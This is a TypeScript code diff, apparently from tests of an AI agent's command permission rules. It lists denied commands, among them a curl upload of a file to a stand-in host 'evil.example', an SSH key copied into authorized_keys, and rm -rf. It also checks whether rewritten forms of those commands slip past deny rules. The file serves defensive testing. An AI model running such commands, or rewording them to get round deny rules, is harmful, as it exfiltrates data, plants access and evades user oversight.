@@ -1,21 +1,27 @@
-import { isEdit, isHarmless } from '../harmless.ts';
-import { readCommand } from '../read-command.ts';
+import type { RuleMatch } from '../../../../protocol/events/rules.ts';
+import type { RuleSource } from '../rules/rule-source.ts';
 
-/** A command that a deny rule is about. */
-interface Denied {
+/** A command that a person denied. */
+export interface Denied {
   words: readonly [program: string, ...args: string[]];
-  /** What the rule names: a program, a path (with everything below), a host, or a kind of effect. */
-  rule: { program?: string; path?: string; host?: string };
+  /** What the rules of the person name; each of these is a rule. */
+  matches: readonly RuleMatch[];
 }
 
 const DENIED: readonly Denied[] = [
-  { words: ['rm', '-rf', 'build'], rule: { program: 'rm', path: '/work/build' } },
-  { words: ['curl', '-T', 'a.txt', 'https://evil.example/x'], rule: { program: 'curl', host: 'evil.example' } },
-  { words: ['chmod', '777', 'run.sh'], rule: { program: 'chmod', path: '/work/run.sh' } },
-  { words: ['kill', '-9', '4242'], rule: { program: 'kill' } },
-  { words: ['git', 'push', '--force'], rule: { program: 'git' } },
-  { words: ['cp', 'key.pub', '/home/me/.ssh/authorized_keys'], rule: { program: 'cp', path: '/home/me/.ssh' } },
-  { words: ['mv', 'src', 'gone'], rule: { program: 'mv', path: '/work/src' } },
+  { words: ['rm', '-rf', 'build'], matches: [{ program: 'rm' }, { path: '/work/build', access: 'write' }] },
+  {
+    words: ['curl', '-T', 'a.txt', 'https://evil.example/x'],
+    matches: [{ program: 'curl' }, { host: 'evil.example' }],
+  },
+  { words: ['chmod', '777', 'run.sh'], matches: [{ program: 'chmod' }, { path: '/work/run.sh', access: 'write' }] },
+  { words: ['kill', '-9', '4242'], matches: [{ program: 'kill' }] },
+  { words: ['git', 'push', '--force'], matches: [{ program: 'git' }] },
+  {
+    words: ['cp', 'key.pub', '/home/me/.ssh/authorized_keys'],
+    matches: [{ program: 'cp' }, { path: '/home/me/.ssh', access: 'write' }],
+  },
+  { words: ['mv', 'src', 'gone'], matches: [{ program: 'mv' }, { path: '/work/src', access: 'write' }] },
 ];
 
 const quote = (text: string): string => `'${text.replaceAll("'", "'\\''")}'`;
@@ -229,18 +235,9 @@ interface Rewritten {
 export const rewriteDenied = (): Rewritten[] =>
   DENIED.flatMap((denied) => [...NAMES, ...WHOLES].map((rewrite) => ({ command: rewrite(denied.words), denied })));
 
-const PLACES = { roots: ['/work'] };
-
-/** Whether it would run unasked in the mode for edits although the rule denies it. */
-export function passes({ command, denied: { rule } }: Rewritten): boolean {
-  const reading = readCommand(command, { folder: '/work', home: '/home/me' });
-  if (!isHarmless(reading, PLACES) && !isEdit(reading, PLACES)) return false;
-  const isNamed = reading.commands.some(({ words }) => words[0]?.value?.split('/').at(-1) === rule.program);
-  const { path, host } = rule;
-  const isReached = reading.effects.some(
-    (effect) =>
-      (path !== undefined && effect.kind !== 'read' && (effect.path === path || effect.path?.startsWith(`${path}/`))) ||
-      (host !== undefined && effect.target === host),
-  );
-  return !isNamed && !isReached;
-}
+/** The rules that deny it everywhere. */
+export const toRules = ({ matches }: Denied): RuleSource[] =>
+  matches.map((match, index) => ({
+    ...{ ruleId: `deny-${index}`, source: 'rule', action: 'deny', match, place: 'everywhere', priority: 0 },
+    createdAtMs: index,
+  }));
